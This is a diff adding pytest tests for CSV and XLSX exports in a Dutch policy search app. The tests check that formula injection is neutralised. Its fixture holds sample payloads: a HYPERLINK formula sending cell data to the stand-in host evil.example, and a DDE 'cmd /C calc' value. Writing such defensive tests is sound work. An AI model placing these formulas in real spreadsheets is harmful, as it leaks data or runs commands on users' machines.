@@ -207,3 +207,74 @@ def test_a_long_title_is_cut_at_a_word_with_an_ellipsis():
                       .encode(), "http://t.nl/", "utf-8")
     assert len(ex.title) <= TITLE_CHARS and ex.title.endswith("…")
     assert title.startswith(ex.title[:-1]) and title[len(ex.title) - 1] == " "   # cut before a space: whole words
+
+
+# -- 8. exports for Dutch spreadsheets
+
+@pytest.fixture()
+def formula_client(tmp_path):
+    """An index whose titles and organisations start like spreadsheet formulas, and one with an ë."""
+    from crawler.store import CrawlStore
+    from indexer.build import IndexLocation, build_index
+    from search_app import create_app
+    store = CrawlStore(tmp_path / "crawl.sqlite3")
+    titles = ['=HYPERLINK("http://evil.example/?x="&A1;"klik")', "+31 beleid", "-2+3 notitie", "@SUM(A1:A2)",
+              "Coördinatie van het woonbeleid"]
+    for i, title in enumerate(titles):
+        store.record_content(run_id=None, site="t", url=f"http://t.nl/{i}", status=200, content_type="text/html",
+                             body=f"doc {i}".encode(), indexable=True,
+                             extract={"title": title, "text": f"Woonbeleid en huurwoningen {i}",
+                                      "meta": {"organisation": "=cmd|' /C calc'!A0" if i == 0 else "Gemeente Tilburg"}})
+    build_index(store, IndexLocation(tmp_path / "index"), progress=False)
+    return create_app({"TESTING": True, "INDEX_DIR": str(tmp_path / "index")}).test_client()
+
+
+FORMULA = ("=", "+", "-", "@")
+
+
+def test_the_excel_csv_is_semicolon_separated_utf8_with_bom_dutch_and_named_after_the_search(formula_client):
+    import csv
+    import io
+    from datetime import datetime, timezone
+    r = formula_client.get("/export.csv?q=woonbeleid&voor=excel")
+    assert r.status_code == 200 and r.data.startswith("\ufeff".encode())
+    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig")), delimiter=";"))
+    assert rows[0][:5] == ["Titel", "Organisatie", "Soort document", "Datum", "Thema's"]
+    assert "Link in Beleidszoeker" in rows[0] and len(rows) == 6
+    assert any(row[0] == "Coördinatie van het woonbeleid" for row in rows)
+    link = rows[1][rows[0].index("Link in Beleidszoeker")]
+    assert link.startswith("http://localhost/document/")
+    today = datetime.now(timezone.utc).date().isoformat()
+    assert f'filename="beleidszoeker-woonbeleid-{today}.csv"' in r.headers["Content-Disposition"]
+
+
+def test_no_export_cell_can_run_as_a_formula(formula_client):
+    import csv
+    import io
+    plain = list(csv.reader(io.StringIO(formula_client.get("/export.csv?q=woonbeleid").get_data(as_text=True))))
+    excel = list(csv.reader(io.StringIO(formula_client.get("/export.csv?q=woonbeleid&voor=excel").data
+                                        .decode("utf-8-sig")), delimiter=";"))
+    for rows in (plain, excel):
+        cells = [c for row in rows[1:] for c in row]
+        assert not [c for c in cells if c.startswith(FORMULA)]
+        assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1;\"klik\")" in cells and "'+31 beleid" in cells
+    assert plain[0] == ["id", "url", "title", "organisation", "type", "date", "themes", "score", "identifier"]
+
+
+def test_the_xlsx_export_holds_the_titles_as_text(formula_client):
+    import io
+    import openpyxl
+    r = formula_client.get("/export.xlsx?q=woonbeleid")
+    assert r.status_code == 200 and r.mimetype.endswith("spreadsheetml.sheet")
+    assert ".xlsx" in r.headers["Content-Disposition"]
+    sheet = openpyxl.load_workbook(io.BytesIO(r.data)).active
+    rows = [[c.value for c in row] for row in sheet.iter_rows()]
+    assert rows[0][0] == "Titel" and len(rows) == 6
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
+    assert all(c.data_type == "s" for c in cells if c.value is not None)   # no formula cells
+    assert '=HYPERLINK("http://evil.example/?x="&A1;"klik")' in [c.value for c in cells]
+
+
+def test_the_results_page_offers_the_excel_form_beside_the_plain_csv(client):
+    html = client.get("/zoeken?q=woning").get_data(as_text=True)
+    assert "voor=excel" in html and "/export.xlsx?q=woning" in html and "/export.csv?q=woning" in html
